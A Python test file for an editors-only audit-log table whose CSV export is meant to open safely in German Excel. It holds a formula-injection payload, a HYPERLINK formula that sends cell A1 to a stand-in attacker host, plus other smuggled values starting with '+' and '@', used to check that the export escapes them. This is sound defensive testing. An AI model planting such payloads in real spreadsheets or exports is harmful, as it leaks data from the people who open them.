"""The audit table on the page Daten & Stände (issue 26): shown to editors only, newest first,
exportable as CSV that German Excel opens with every cell as text (no formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

from ipdaten.ablage import Ablage, ablage_verzeichnis
from ipdaten.ablage_protokoll import Eintrag
from ipdaten.darstellung.protokoll_tabelle import SPALTEN, protokoll_csv, protokoll_tabelle
from ipdaten.redakteur import Redakteur
from oberflaeche import protokoll_ansicht
from tests.arbeitsmappen import STANDARD_PFAD, ueberarbeitete_standard_bytes
from tests.seiten_hilfen import ANMELDUNG, hat_button, oeffne, texte

BOESE = '=HYPERLINK("http://boese.example/?"&A1;"Klick")'


def _herunterladen(at) -> list[str]:
    """The labels of the download buttons whose key is protokoll_csv."""
    return [e.proto.label for e in at.get("download_button") if e.proto.id.endswith("-protokoll_csv")]


def _ablage() -> Ablage:
    return Ablage(ablage_verzeichnis(), STANDARD_PFAD)


def _mit_eintraegen() -> Ablage:
    ablage = _ablage()
    ablage.protokolliere("fehlversuch", von=Redakteur(BOESE), client="10.0.0.66")
    ablage.veroeffentliche(
        ueberarbeitete_standard_bytes(),
        dateiname="+herbst.xlsx",
        von=Redakteur("Maria Muster"),
        kommentar="@SUMME(1;2)",
        client="10.0.0.7",
    )
    return ablage


def test_protokoll_nur_nach_der_anmeldung():
    _mit_eintraegen()
    at = oeffne("seiten/daten.py").run()
    assert "Protokoll: wer hat wann was veröffentlicht" in [e.label for e in at.expander]
    assert not hat_button(at, "protokoll_anmelden")  # drawn only once the expander is opened
    at.session_state[protokoll_ansicht.OFFEN] = True  # what a click on the expander does
    at.run()
    assert hat_button(at, "protokoll_anmelden") and not _herunterladen(at)
    assert not [d for d in at.dataframe if "Aktion" in d.value.columns]
    at.text_input(key="protokoll_name").set_value("Maria Muster")
    at.text_input(key="protokoll_passwort").set_value("Test-Passwort-17")
    at.button(key="protokoll_anmelden").click().run()
    assert not at.exception
    (tabelle,) = [d.value for d in at.dataframe if "Aktion" in d.value.columns]
    assert list(tabelle.columns) == list(SPALTEN)
    assert tabelle[["Aktion", "Person", "Rechner", "Stand", "Datei"]].values.tolist() == [
        ["Zum Bearbeiten angemeldet", "Maria Muster", "", "", ""],
        ["Veröffentlicht", "Maria Muster", "10.0.0.7", "Nr. 2", "+herbst.xlsx"],
        ["Falsches Passwort", BOESE, "10.0.0.66", "", ""],
    ]
    assert _herunterladen(at) == ["Protokoll herunterladen (.csv, 3 Einträge)"]


def test_protokoll_nicht_fuer_angemeldete_ohne_redakteursrecht():
    _mit_eintraegen()
    at = oeffne("seiten/daten.py")
    at.secrets.update(ANMELDUNG)
    at.user = {"is_logged_in": True, "email": "praktikant@lrabb.de", "name": "Paul"}
    at.session_state[protokoll_ansicht.OFFEN] = True
    at.run()
    assert not at.exception
    assert "nicht als Redakteurin oder Redakteur eingetragen" in texte(at)
    assert not [d for d in at.dataframe if "Aktion" in d.value.columns]
    assert not _herunterladen(at)


def test_protokoll_als_csv_ist_sicher_fuer_excel():
    ablage = _mit_eintraegen()
    daten = protokoll_csv(ablage.protokoll())
    assert daten.startswith("\ufeff".encode())
    zeilen = list(csv.reader(io.StringIO(daten.decode("utf-8-sig")), delimiter=";"))
    assert zeilen[0] == list(SPALTEN)
    veroeffentlicht, fehlversuch = zeilen[1], zeilen[2]
    assert veroeffentlicht[1:8] == [
        "Veröffentlicht",
        "Maria Muster",
        "Name mit Passwort",
        "",
        "10.0.0.7",
        "Nr. 2",
        "'+herbst.xlsx",
    ]
    assert veroeffentlicht[9] == "'@SUMME(1;2)"  # the comment
    assert fehlversuch[2] == "'" + BOESE
    assert all(not z.startswith(("=", "+", "-", "@")) for zeile in zeilen for z in zeile)


def test_zeit_in_der_zeitzone_des_landkreises():
    eintrag = Eintrag(nr=1, zeit=dt.datetime(2026, 12, 6, 13, 5, 33, tzinfo=dt.UTC), aktion="veroeffentlicht")
    assert protokoll_tabelle([eintrag])["Zeit"].tolist() == ["06.12.2026 14:05:33"]
